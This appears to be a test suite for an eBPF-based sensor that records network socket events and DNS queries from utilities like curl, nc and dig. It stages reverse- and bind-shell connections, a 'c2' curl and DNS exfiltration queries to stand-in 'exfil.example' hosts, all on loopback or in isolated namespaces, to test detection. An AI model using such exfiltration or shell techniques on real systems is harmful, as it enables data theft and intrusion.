"""Socket events on the real kernel: real utilities run from real scripts in /tmp contact
real listeners on loopback (or, in an empty network namespace, an address no packet can
reach), and the rows of network_utility_socket_events say what the kernel saw, joined to
the exec rows. Both probe modes (the socket programs are the same in each)."""

from __future__ import annotations

import json
import os
import platform
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any, Callable

import pytest

from osquery_netutil.events.sensor import Sensor
from osquery_netutil.host.database import Host
from osquery_netutil.packs import source as packs
from osquery_netutil.schema import SOCKETS
from osquery_netutil.tables.plugins import StatusTable, stored_tables

from tests.conftest import Container
from testkit.support import Collector, HttpServer, write_executable

pytestmark = pytest.mark.probe

Row = dict[str, Any]
PYTHON = os.path.realpath(sys.executable)


def socket_rows(sensor: Sensor, pred: Callable[[Row], bool], count: int = 1, timeout: float = 10.0) -> list[Row]:
    """The stored socket rows matching pred, waiting up to timeout for `count` of them
    (rows are folded for a second, a connect waits for its outcome)."""
    assert sensor.store is not None
    deadline = time.monotonic() + timeout
    while True:
        sensor.store.flush()
        hits = [r for r in sensor.store.select(table=SOCKETS) if pred(r)]
        if len(hits) >= count or time.monotonic() > deadline:
            return hits
        time.sleep(0.2)


def exec_row(rows: Collector, mark: int, pred: Callable[[Row], bool]) -> Row:
    hits = rows.wait_for(pred, since=mark)
    assert hits, f"no such exec row: {[r['cmdline'] for r in rows.since(mark)]}"
    return hits[0]


def closed_port() -> int:
    """A loopback port nothing listens on (bound, then closed)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def run(script: Path, timeout: float = 30) -> None:
    subprocess.run([str(script)], check=False, timeout=timeout, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def test_the_status_says_socket_events_are_on(sensor: Sensor) -> None:
    status = sensor.status()
    assert (status["network_mode"], status["network_note"]) == ("cgroup", "")


def test_a_download_is_a_connect_that_succeeded_joined_to_its_exec(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    with HttpServer() as server:
        mark = rows.mark()
        run(write_executable(workdir / "get.sh", f"#!/bin/sh\ncurl -s -o /dev/null http://127.0.0.1:{server.port}/payload\n"))
        curl = exec_row(rows, mark, lambda r: r["utility"] == "curl" and f":{server.port}/payload" in r["cmdline"])
        (hit,) = socket_rows(sensor, lambda r: r["pid"] == curl["pid"] and r["action"] == "connect")
    assert hit["exec_eid"] == curl["eid"]
    assert (hit["status"], hit["remote_address"], hit["remote_port"], hit["protocol"], hit["family"]) == \
        ("succeeded", "127.0.0.1", server.port, 6, 2)
    assert hit["remote_public"] == 0 and hit["comm"] == "curl" and hit["path"].endswith("/curl")
    assert json.loads(hit["origin"])["path"] == str(workdir / "get.sh")


def test_a_refused_connect(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    port = closed_port()
    mark = rows.mark()
    run(write_executable(workdir / "try.sh", f"#!/bin/sh\ncurl -s http://127.0.0.1:{port}/\n"))
    curl = exec_row(rows, mark, lambda r: r["utility"] == "curl" and f":{port}/" in r["cmdline"])
    (hit,) = socket_rows(sensor, lambda r: r["pid"] == curl["pid"] and r["action"] == "connect")
    assert (hit["status"], hit["remote_port"], hit["exec_eid"]) == ("refused", port, curl["eid"])


def test_a_public_address_in_an_empty_namespace_is_unreachable_and_recorded(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    # unshare -n: no interface but a down lo, so connect() fails with ENETUNREACH at once
    # and no packet can leave.
    tag = uuid.uuid4().hex[:8]
    mark = rows.mark()
    run(write_executable(workdir / "c2.sh", f"#!/bin/sh\nunshare -n curl -s -m 2 http://203.0.113.5:8443/{tag} http://9.9.9.9/{tag}\n"))
    curl = exec_row(rows, mark, lambda r: r["utility"] == "curl" and tag in r["cmdline"])
    hits = socket_rows(sensor, lambda r: r["pid"] == curl["pid"] and r["action"] == "connect", count=2)
    # a documentation address is not public; a global one is
    assert sorted((r["status"], r["remote_address"], r["remote_port"], r["remote_public"]) for r in hits) == \
        [("unreachable", "203.0.113.5", 8443, 0), ("unreachable", "9.9.9.9", 80, 1)]


def test_a_listener_its_bind_listen_and_the_peer_it_accepted(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    port = closed_port()
    script = write_executable(workdir / "bind.sh", f"#!/bin/sh\nnc -l 127.0.0.1 {port} >/dev/null &\n"
                              f"sleep 0.5\necho hi | nc -q0 127.0.0.1 {port}\nwait\n")
    mark = rows.mark()
    run(script)
    server = exec_row(rows, mark, lambda r: r["utility"] == "netcat" and r["cmdline"].endswith(f"-l 127.0.0.1 {port}"))
    client = exec_row(rows, mark, lambda r: r["utility"] == "netcat" and r["cmdline"].endswith(f"127.0.0.1 {port}")
                      and "-l" not in r["cmdline"])
    mine = socket_rows(sensor, lambda r: r["exec_eid"] in (server["eid"], client["eid"]), count=4)
    by_action = {r["action"]: r for r in mine}
    assert set(by_action) == {"bind", "listen", "accept", "connect"}, mine
    for action in ("bind", "listen", "accept"):
        assert by_action[action]["exec_eid"] == server["eid"] and by_action[action]["local_port"] == port
    connect, accept = by_action["connect"], by_action["accept"]
    assert (connect["exec_eid"], connect["status"], connect["remote_port"]) == (client["eid"], "succeeded", port)
    assert accept["remote_address"] == "127.0.0.1" and accept["remote_port"] not in (0, port)
    assert accept["pid"] == server["pid"]


def test_an_idle_connection_and_an_idle_peer_are_reported_while_open(sensor: Sensor, workdir: Path) -> None:
    """A reverse shell waits for its commands, a bind shell for its attacker: connected,
    nothing sent. The connect is `succeeded` and the listener's peer an `accept` while
    both connections are still open (btf mode: their state is read with sock_diag, as no
    tracepoint reports it; tracepoint mode: sock_ops)."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(10)
        port, listen_port = server.getsockname()[1], closed_port()
        script = write_executable(workdir / "idle.sh", f"#!/bin/sh\nnc -d 127.0.0.1 {port} &\n"
                                  f"nc -d -l 127.0.0.1 {listen_port} >/dev/null &\nwait\n")
        shells = subprocess.Popen([str(script)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            held, _ = server.accept()
            deadline = time.monotonic() + 10
            while True:   # the tracked listener's peer, from this (untracked) process
                try:
                    attacker = socket.create_connection(("127.0.0.1", listen_port), timeout=1)
                    break
                except ConnectionRefusedError:
                    assert time.monotonic() < deadline, "nc -l did not listen"
                    time.sleep(0.1)
            (connect,) = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == port
                                     and str(script) in r["origin"])
            (accept,) = socket_rows(sensor, lambda r: r["action"] == "accept" and r["local_port"] == listen_port
                                    and str(script) in r["origin"])
            assert shells.poll() is None, "the connections ended before their rows were made"
            attacker_port = attacker.getsockname()[1]
            attacker.close()
            held.close()
        finally:
            os.killpg(shells.pid, signal.SIGKILL)
            shells.wait(timeout=10)
    assert (connect["status"], connect["comm"]) == ("succeeded", "nc")
    assert (accept["remote_address"], accept["remote_port"], accept["comm"]) == ("127.0.0.1", attacker_port, "nc")


def test_unanswered_connects_time_out_or_are_given_up(sensor: Sensor, workdir: Path) -> None:
    """A listener whose accept queue is full drops SYNs unanswered (no reset). A connect
    allowed one SYN retransmission and 1.5 s (TCP_SYNCNT, TCP_USER_TIMEOUT) times out; one
    its caller closes after 0.3 s was still in progress (no reset came, no SYN was sent
    again), also when the close aborts it (SO_LINGER 0: the kernel sets ECONNRESET)."""
    with socket.socket() as full:
        full.bind(("127.0.0.1", 0))
        full.listen(0)
        port = full.getsockname()[1]
        filler = socket.create_connection(("127.0.0.1", port))   # the queue's one place
        code = ("import socket\n"
                "a = socket.socket(); a.setsockopt(socket.IPPROTO_TCP, socket.TCP_SYNCNT, 1)\n"
                "a.setsockopt(socket.IPPROTO_TCP, socket.TCP_USER_TIMEOUT, 1500)\n"
                f"try: a.connect(('127.0.0.1', {port}))\n"
                "except OSError: pass\n"
                "import struct\n"
                "for linger in (0, 1):\n"
                "    b = socket.socket(); b.settimeout(0.3)\n"
                "    if linger: b.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))\n"
                f"    try: b.connect(('127.0.0.1', {port}))\n"
                "    except OSError: pass\n"
                "    b.close()\n")
        script = write_executable(workdir / "syn.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
        run(script)
        filler.close()
    hits = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == port
                       and str(script) in r["origin"], count=2)
    assert sorted((r["status"], r["count"]) for r in hits) == [("in progress", 2), ("timed out", 1)], hits


def test_a_connect_answered_then_reset_succeeded(sensor: Sensor, workdir: Path) -> None:
    """The server answers, then resets the connection (SO_LINGER 0) before the client's
    outcome is due: the reset is the connection's end, not the connect's answer."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(10)
        port = server.getsockname()[1]
        code = ("import socket\n"
                f"s = socket.create_connection(('127.0.0.1', {port}))\n"
                "try: s.recv(10)\n"
                "except OSError: pass\n")
        script = write_executable(workdir / "reset.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
        client = subprocess.Popen([str(script)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        peer, _ = server.accept()
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        peer.close()
        client.wait(timeout=10)
    (hit,) = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == port
                         and str(script) in r["origin"])
    assert hit["status"] == "succeeded"


def test_udp_connected_and_unconnected(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    code = ("import socket\n"
            "a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); a.connect(('127.0.0.1', 9)); a.send(b'x')\n"
            "b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "for _ in range(5): b.sendto(b'y', ('127.0.0.2', 7))\n")
    script = write_executable(workdir / "udp.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
    run(script)
    child = socket_rows(sensor, lambda r: r["remote_address"] in ("127.0.0.1", "127.0.0.2") and r["protocol"] == 17
                        and str(script) in r["origin"], count=2)
    by_action = {r["action"]: r for r in child}
    assert set(by_action) == {"connect", "send"}, child
    assert (by_action["connect"]["remote_port"], by_action["connect"]["status"]) == (9, "")
    send = by_action["send"]
    assert (send["remote_address"], send["remote_port"], send["count"]) == ("127.0.0.2", 7, 5)
    # python3 is no utility: its events name no exec row, but the script they descend from
    assert send["exec_eid"] == 0 and json.loads(send["origin"])["path"] == str(script)


def test_tcp_fast_open_is_a_connect_with_its_outcome(sensor: Sensor, workdir: Path) -> None:
    """sendto(MSG_FASTOPEN) connects without connect(): the kernel still runs connect4
    for it (__inet_stream_connect's pre_connect), so it is a row like any connect."""
    with HttpServer() as server:
        code = ("import socket\n"
                "s = socket.socket()\n"
                f"s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('127.0.0.1', {server.port}))\n"
                "s.recv(100)\n")
        script = write_executable(workdir / "tfo.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
        run(script)
        (hit,) = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == server.port
                             and str(script) in r["origin"])
    assert (hit["status"], hit["remote_address"], hit["protocol"]) == ("succeeded", "127.0.0.1", 6)


def test_the_first_run_of_a_renamed_copy_is_tracked_and_a_copy_that_is_no_utility_is_not(
        sensor: Sensor, rows: Collector, sealed: Path) -> None:
    """A copy of curl under a name the catalog does not know, in a directory no path rule
    forwards, run once: the kernel has no verdict on it yet, so it tracks the exec until
    user space has judged it; judged a utility (by content), its connect joins its row.
    A copy of bash that connects (/dev/tcp) is judged no utility: its events are dropped.
    Tracepoint mode judges no content: neither is a row (docs/threat-model.md)."""
    tag = uuid.uuid4().hex[:8]
    copy, benign = sealed / f"upd{tag}", sealed / f"info{tag}"
    shutil.copy(shutil.which("curl") or "/usr/bin/curl", copy)
    shutil.copy("/bin/bash", benign)
    with HttpServer() as server:
        mark = rows.mark()
        subprocess.run([str(copy), "-s", "-o", "/dev/null", f"http://127.0.0.1:{server.port}/{tag}"], timeout=30, check=True)
        subprocess.run([str(benign), "-c", f"exec 3<>/dev/tcp/127.0.0.1/{server.port}"], timeout=30, check=True)
        btf = sensor.status()["probe_mode"] == "btf"
        if not btf:
            time.sleep(2)
            assert not [r for r in rows.since(mark) if tag in r["cmdline"]]
            return
        row = exec_row(rows, mark, lambda r: tag in r["cmdline"])
        assert (row["path"], row["matched_by"], row["utility"]) == (str(copy), "content", "curl")
        (hit,) = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == server.port
                             and r["comm"] == copy.name[:15])
    assert (hit["exec_eid"], hit["status"]) == (row["eid"], "succeeded")
    time.sleep(2)   # the benign copy's events, had they been kept, were handed on by now
    assert socket_rows(sensor, lambda r: r["comm"] == benign.name[:15], timeout=0) == []


def test_ipv6_and_v4_mapped(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    code = ("import socket\n"
            "for addr in ('::1', '::ffff:127.0.0.1'):\n"
            "    s = socket.socket(socket.AF_INET6)\n"
            "    try: s.connect((addr, 1))\n"
            "    except OSError: pass\n")
    script = write_executable(workdir / "six.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n")
    run(script)
    hits = socket_rows(sensor, lambda r: r["action"] == "connect" and r["remote_port"] == 1 and str(script) in r["origin"], count=2)
    assert sorted((r["family"], r["remote_address"], r["status"]) for r in hits) == \
        [(10, "127.0.0.1", "refused"), (10, "::1", "refused")]


REPO = Path(__file__).resolve().parents[2]


def test_dns_questions_are_read_as_they_leave_however_the_name_was_given(sensor: Sensor, workdir: Path) -> None:
    """A resolver on 127.0.0.1:53 in a network namespace of the test's own, with
    resolv.conf bind-mounted there: the name in a URL (getaddrinfo's own question), on
    stdin, in a batch file and over TCP are each a dns_query row, whatever argv said."""
    tag = uuid.uuid4().hex[:8]
    (workdir / "resolv.conf").write_text("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
    (workdir / "names.txt").write_text(f"b1-{tag}.exfil.example\nb2-{tag}.exfil.example\n")
    # The same questions sent the ways a tool of the attacker's own could: TCP with the
    # length written apart, a sendmsg of two pieces, an unconnected sendto, a sendfile.
    (workdir / "ask.py").write_text(f"""import os, socket, struct
def query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", 1, 1)
q = query("split-{tag}.exfil.example")
t = socket.create_connection(("127.0.0.1", 53), timeout=2)
t.sendall(struct.pack("!H", len(q)))
t.sendall(q)
t.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect(("127.0.0.1", 53))
q = query("iov-{tag}.exfil.example")
u.sendmsg([q[:12], q[12:]])
q = query("sendto-{tag}.exfil.example")
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", 53))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.connect(("127.0.0.1", 9))
c.sendto(query("named-{tag}.exfil.example"), ("127.0.0.1", 53))   # the name wins over the peer
import ctypes
class Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
class Hdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.POINTER(Iov)),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int)]
class Msg(ctypes.Structure):   # struct mmsghdr
    _fields_ = [("hdr", Hdr), ("len", ctypes.c_uint32)]
def to(port):
    return ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton("127.0.0.1") + bytes(8), 16)
payloads = [ctypes.create_string_buffer(1), ctypes.create_string_buffer(query("mmsg-{tag}.exfil.example"))]
names = [to(9), to(53)]
iovs = [Iov(ctypes.addressof(payloads[0]), 0), Iov(ctypes.addressof(payloads[1]), len(payloads[1]) - 1)]
msgs = (Msg * 2)(*[Msg(Hdr(ctypes.addressof(names[i]), 16, ctypes.pointer(iovs[i]), 1, None, 0, 0), 0) for i in range(2)])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
assert ctypes.CDLL(None).sendmmsg(u.fileno(), msgs, 2, 0) == 2   # an empty datagram first, then a question
with open("{workdir}/sendfile-query", "wb") as f:
    f.write(query("sendfile-{tag}.exfil.example"))
with open("{workdir}/sendfile-query", "rb") as f:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.connect(("127.0.0.1", 53))
    os.sendfile(u.fileno(), f.fileno(), 0, 100)
""")
    write_executable(workdir / "inner.sh", f"""#!/bin/sh
ip link set lo up
mount --bind {workdir}/resolv.conf /etc/resolv.conf
cd {REPO} && {PYTHON} -m testkit.support 20 > {workdir}/ready &
server=$!
i=0
while [ ! -s {workdir}/ready ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
curl -s -m 2 http://c2-{tag}.example.com/
printf 'stdin-{tag}.exfil.example\\n{tag}{tag}.stdin.exfil.example\\n' | nslookup >/dev/null
dig +short +tries=1 +time=1 -f {workdir}/names.txt
dig +tcp +short +tries=1 +time=1 tcp-{tag}.exfil.example TXT
{PYTHON} {workdir}/ask.py
kill $server
""")
    run(write_executable(workdir / "dns.sh", f"#!/bin/sh\nexec unshare -n -m /bin/sh {workdir}/inner.sh\n"), timeout=60)
    names = {f"c2-{tag}.example.com", f"stdin-{tag}.exfil.example", f"b1-{tag}.exfil.example",
             f"b2-{tag}.exfil.example", f"tcp-{tag}.exfil.example", f"{tag}{tag}.stdin.exfil.example",
             f"split-{tag}.exfil.example", f"iov-{tag}.exfil.example", f"sendto-{tag}.exfil.example",
             f"named-{tag}.exfil.example", f"mmsg-{tag}.exfil.example"}
    hits = socket_rows(sensor, lambda r: r["action"] == "dns_query" and tag in r["dns_name"], count=12, timeout=15)
    asked = {(r["comm"], r["dns_name"], r["dns_type"], r["protocol"]) for r in hits}
    python = os.path.basename(PYTHON)[:15]
    # curl's A and AAAA leave in one sendmmsg (glibc): both are read, each from its own message.
    assert {("curl", f"c2-{tag}.example.com", "A", 17), ("curl", f"c2-{tag}.example.com", "AAAA", 17),
            ("dig", f"tcp-{tag}.exfil.example", "TXT", 6), (python, f"split-{tag}.exfil.example", "A", 6),
            (python, f"iov-{tag}.exfil.example", "A", 17), (python, f"sendto-{tag}.exfil.example", "A", 17),
            (python, f"mmsg-{tag}.exfil.example", "A", 17)} <= asked, asked
    # A sendfile: egress reads the datagram; at the syscall, there is no buffer to read
    # it from, so it is a question with no name, and the status row counts it.
    # A datagram named to port 53 on a socket connected elsewhere: egress knows the socket's
    # peer only (docs/design.md).
    btf = sensor.status()["probe_mode"] == "btf"
    expected = names if btf else names - {f"named-{tag}.exfil.example"} | {f"sendfile-{tag}.exfil.example"}
    assert {name for _, name, _, _ in asked} == expected, asked
    if btf:
        unread = socket_rows(sensor, lambda r: r["action"] == "dns_query" and r["dns_name"] == ""
                             and str(workdir / "ask.py") in r["origin"])
        assert len(unread) == 1 and sensor.status()["socket_events_lost"] >= 1
    # The detection judges the questions sent: the 16-hex-character label given on stdin.
    (query,) = [q for q in packs.load() if q.name == "netutil_dns_questions_exfiltration"]
    _, found = Host(stored_tables(lambda: sensor.store)).query(query.sql)
    assert any(f"{tag}{tag}.stdin.exfil.example" in str(row) and "a hex-encoded label" in str(row) for row in found), found
    assert not any(f"c2-{tag}" in str(row) for row in found)
    for r in hits:
        assert (r["remote_address"], r["remote_port"]) == ("127.0.0.1", 53)
        origin = json.loads(r["origin"])   # the nearest exec from /tmp: sh or python on a script
        script = workdir / ("ask.py" if r["comm"] == python else "inner.sh")
        assert str(script) in (origin["path"], origin.get("script")), origin


def test_an_untracked_process_makes_no_row(sensor: Sensor, workdir: Path) -> None:
    port = closed_port()
    code = f"import socket\ns = socket.socket()\ntry: s.connect(('127.0.0.1', {port}))\nexcept OSError: pass\n"
    subprocess.run([PYTHON, "-c", code], check=True, timeout=30)   # pytest's child: nothing to track
    run(write_executable(workdir / "p.sh", f"#!/bin/sh\n{PYTHON} -c \"{code}\"\n"))   # the same, from /tmp
    hits = socket_rows(sensor, lambda r: r["remote_port"] == port, count=2, timeout=4)
    assert len(hits) == 1 and str(workdir / "p.sh") in hits[0]["origin"], hits


def test_a_container_s_connect_names_the_container(sensor: Sensor, rows: Collector, container: Container) -> None:
    port = closed_port()
    script = Path(f"/tmp/netutil-ctr-{uuid.uuid4().hex[:8]}.sh")
    write_executable(script, container.entry(f"curl -s http://127.0.0.1:{port}/"))
    try:
        run(script)
        hits = socket_rows(sensor, lambda r: r["remote_port"] == port and r["action"] == "connect")
    finally:
        script.unlink()
    assert hits and hits[0]["container_id"] == container.id, hits


def test_the_join_answers_in_the_embedded_host(sensor: Sensor, rows: Collector, workdir: Path) -> None:
    port = closed_port()
    mark = rows.mark()
    run(write_executable(workdir / "j.sh", f"#!/bin/sh\ncurl -s http://127.0.0.1:{port}/join\n"))
    exec_row(rows, mark, lambda r: r["utility"] == "curl" and f":{port}/join" in r["cmdline"])
    socket_rows(sensor, lambda r: r["remote_port"] == port)
    host = Host([*stored_tables(lambda: sensor.store), StatusTable(sensor.status)])
    _, answer = host.query(
        "SELECT e.cmdline, s.remote_address, s.status FROM network_utility_execs e "
        "JOIN network_utility_socket_events s ON s.exec_eid = e.eid WHERE s.remote_port = ?", (port,))
    assert answer == [(f"curl -s http://127.0.0.1:{port}/join", "127.0.0.1", "refused")]


def _links() -> dict[int, dict[str, object]]:
    """The BPF links the kernel holds (cgroup programs and raw tracepoints), by id."""
    out = subprocess.run(["bpftool", "-j", "link", "show"], check=True, capture_output=True, text=True).stdout
    return {link["id"]: link for link in json.loads(out or "[]")}


def test_kill_9_of_the_sensor_leaves_no_program_attached(tmp_path: Path, probe_mode: str) -> None:
    """The socket programs hang on BPF links that die with the process: a sensor killed
    with SIGKILL leaves nothing on the cgroup (bcc's own attach would), nor its raw
    tracepoints (btf mode)."""
    from osquery_netutil.kernel.btf import VMLINUX, Btf
    from osquery_netutil.kernel.sockets import EGRESS_PROGRAMS, OUTCOME_TRACEPOINTS, PROGRAMS

    tmp_path.chmod(0o700)
    code = ("import re, time\n"
            "from pathlib import Path\n"
            "from osquery_netutil.catalog import Catalog\n"
            "from osquery_netutil.events.sensor import Sensor\n"
            "from osquery_netutil.store.store import Store\n"
            f"s = Sensor(Catalog.load(), Store(Path({str(tmp_path)!r}) / 'e.db'), probe_mode={probe_mode!r}); s.start()\n"
            "infos = []\n"
            "for fd in list(Path('/proc/self/fdinfo').iterdir()):\n"
            "    try: infos.append(fd.read_text())\n"
            "    except OSError: pass   # the listing's own fd\n"
            "found = [re.search(r'link_type:\\s+(\\w+)\\s+link_id:\\s+(\\d+)', i) for i in infos]\n"
            "print(' '.join(m.group(1) + ':' + m.group(2) for m in found if m), flush=True)\n"
            "time.sleep(60)\n")
    child = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    try:
        assert child.stdout is not None
        ids = {int(word.split(":")[1]) for word in child.stdout.readline().split()}
        held = _links()
        assert ids <= held.keys()
        cgroup = [i for i in ids if held[i]["type"] == "cgroup"]
        tracepoints = {held[i].get("tp_name") for i in ids if held[i]["type"] == "raw_tracepoint"}
        # What this kernel builds in btf mode (fields.btf_defines): sends and outcomes at
        # raw tracepoints where it has them, else egress and sock_ops, as tracepoint mode.
        btf = Btf.load(VMLINUX) if probe_mode == "btf" else None
        sends = btf is not None and platform.machine() == "x86_64" and btf.has_raw_tracepoint("sock_send_length")
        outcomes = btf is not None and all(btf.has_raw_tracepoint(tp) for tp, _ in OUTCOME_TRACEPOINTS)
        assert len(cgroup) == len(PROGRAMS) + (0 if outcomes else 1) + (0 if sends else len(EGRESS_PROGRAMS))
        ours = {"sock_send_length", *(tp for tp, _ in OUTCOME_TRACEPOINTS)}
        assert tracepoints & ours == {tp for tp, _ in OUTCOME_TRACEPOINTS if outcomes} | ({"sock_send_length"} if sends else set())
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=10)
    deadline = time.monotonic() + 5
    while ids & _links().keys() and time.monotonic() < deadline:
        time.sleep(0.1)   # the kernel releases the links as it closes the dead process's files
    assert not ids & _links().keys()


def test_counters_and_rows_agree(sensor: Sensor) -> None:
    status = sensor.status()
    assert sensor._probe is not None   # noqa: SLF001
    unread = sensor._probe.counters().sock_unread   # noqa: SLF001 (the DNS test's sendfile, btf mode)
    assert status["socket_events"] > 0 and status["socket_events_lost"] == unread
    assert sensor.socket_rows > 0

